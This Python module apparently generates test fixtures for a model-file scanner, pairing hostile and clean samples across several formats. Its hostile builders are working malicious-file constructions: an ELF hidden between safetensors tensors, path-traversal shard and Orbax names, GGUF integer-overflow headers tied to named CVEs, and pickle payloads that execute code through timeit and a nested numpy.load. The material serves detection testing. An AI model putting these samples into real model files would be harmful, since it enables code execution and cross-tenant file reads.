"""Formats that should hold numbers alone: safetensors, GGUF, msgpack, sharding indices, Paddle and numpy states."""
import io
import json
import pickle as stock
import struct

from assembly import call, glob, pickle, val

from .parts import CODE, elf, floats, garr, llama, safetensors
from .torches import record, tensor

FAMILY = "weights"


def thinc(state: bytes) -> bytes:
    """A spaCy component's `model` file as thinc writes it."""
    import msgpack

    shim = msgpack.packb({"config": {"embed": 8}, "state": state})
    return msgpack.packb({
        "nodes": [{"index": 0, "name": "pytorch", "dims": {"nO": 4, "nI": 4}, "refs": {}}], "attrs": [{}], "params": [{}], "shims": [[shim]],
    })  # fmt: skip


def npy(value) -> bytes:
    import numpy

    out = io.BytesIO()
    numpy.save(out, value, allow_pickle=True)
    return out.getvalue()


class Late:
    def __reduce__(self):
        import timeit

        return timeit.timeit, (CODE, "pass")


def add(out):
    import numpy

    def pair(name, hostile, twin, prove=None, file=None, why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    rows = {"a.weight": ("F32", [4, 4], floats(16)), "b.weight": ("F32", [4, 4], floats(16, 2))}
    pair("safetensors-hole", safetensors(rows, {"format": "pt"}, gap=elf()), safetensors(rows, {"format": "pt"}), file="model.safetensors", why="A Linux program lies between two tensors, claimed by none.")
    shard = safetensors({"a.weight": rows["a.weight"]}, {"format": "pt"})
    second = safetensors({"b.weight": rows["b.weight"]}, {"format": "pt"})
    index = lambda name: json.dumps({"metadata": {"total_size": 128}, "weight_map": {"a.weight": "model-00001-of-00002.safetensors", "b.weight": name}}, indent=2)  # noqa: E731
    files = {"model-00001-of-00002.safetensors": shard, "model-00002-of-00002.safetensors": second}
    pair(
        "shard-index-escape", {"model.safetensors.index.json": index("../../../../../mnt/tenants/acme/finetune/adapter.safetensors"), **files},
        {"model.safetensors.index.json": index("model-00002-of-00002.safetensors"), **files},
        why="transformers joins each shard's name to the model's folder: this one reads another tenant's file.",
    )  # fmt: skip
    ok = [("token_embd.weight", [32, 8], 0, 0, floats(256))]
    pair("gguf-negative-type", llama(tensors=[("token_embd.weight", [32, 8], -7, 0, floats(256))]), llama(tensors=ok), file="tiny.gguf", why="The tensor's type is a negative index into a table of C structures (llama.cpp before the fix of 2026-02). Built from the format.")
    pair("gguf-bytes-wrap", llama(tensors=[("token_embd.weight", [1 << 40, 1 << 22], 0, 0, floats(256))]), llama(tensors=ok), file="tiny.gguf", why="The number of elements fits 63 bits, four bytes each wrap to zero: the size check passes and the tensor reaches past the buffer (CVE-2026-33298).")
    pair("gguf-scores-short", llama(scores=[0.0] * 2), llama(), file="tiny.gguf", why="Scores and tokens are read with the tokens' count: the reader leaves the array of scores (heap read). Built from the format.")
    wrap = [("tokenizer.ggml.merges_rank", 9, struct.pack("<IQ", 6, 0x4000000000000002) + floats(2))]
    pair("gguf-array-wrap", llama(wrap), llama([("tokenizer.ggml.merges_rank", 9, garr(6, [floats(1), floats(1)]))]), file="tiny.gguf", why="The array says 2^62+2 floats: in bytes that wraps to 8, which are there. A reader that multiplies first allocates 8 bytes and copies on (CVE-2025-53630's kind).")
    weights = val({"W": tensor(0, 16, [4, 4])})
    act = call(glob("timeit", "timeit"), CODE, "pass")
    pair(
        "spacy-shim", {"ner/model": thinc(record(pickle(val({"W": tensor(0, 16, [4, 4]), "b": act}), 2), {"0": floats(16)})), "ner/cfg": b'{"beam_width":1}'},
        {"ner/model": thinc(record(pickle(weights, 2), {"0": floats(16)})), "ner/cfg": b'{"beam_width":1}'},
        "e11-thinc", why="thinc keeps a torch file as bytes in msgpack in msgpack; before 8.3 it loaded it in full.",
    )  # fmt: skip
    import msgpack

    tree = lambda leaf: msgpack.packb({"step": 100, "params": {"dense": {"kernel": leaf, "bias": "PLACEHOLDER://params.dense.bias"}}})  # noqa: E731
    zarray = json.dumps({"chunks": [4], "compressor": None, "dtype": "<f4", "fill_value": None, "filters": None, "order": "C", "shape": [4], "zarr_format": 2})
    stored = {"params.dense.bias/.zarray": zarray, "params.dense.bias/0": floats(4), "params.dense.kernel/.zarray": zarray, "params.dense.kernel/0": floats(4)}
    pair(
        "orbax-placeholder-escape", {"checkpoint": tree("PLACEHOLDER://../../../tenant-b/run-7/default/params.dense.kernel"), **stored}, {"checkpoint": tree("PLACEHOLDER://params.dense.kernel"), **stored},
        why="Orbax joins the name after PLACEHOLDER:// to the checkpoint's folder: another tenant's array is read. Built from the format.",
    )  # fmt: skip
    objects = numpy.empty(2, dtype=object)
    objects[:] = [Late(), 1]
    stage = call(glob("numpy", "load"), call(glob("_io", "BytesIO"), npy(objects)), None, True)
    body = {"linear_0.w_0": numpy.arange(16, dtype="float32").reshape(4, 4), "StructuredToParameterName@@": {"weight": "linear_0.w_0"}}
    pair("pdparams-second-stage", pickle(val({"linear_0.b_0": stage})), stock.dumps(body, 4), "pickle", "model.pdparams", "paddle.load unpickles; numpy.load over bytes with allow_pickle opens a second pickle, and only that one calls.")
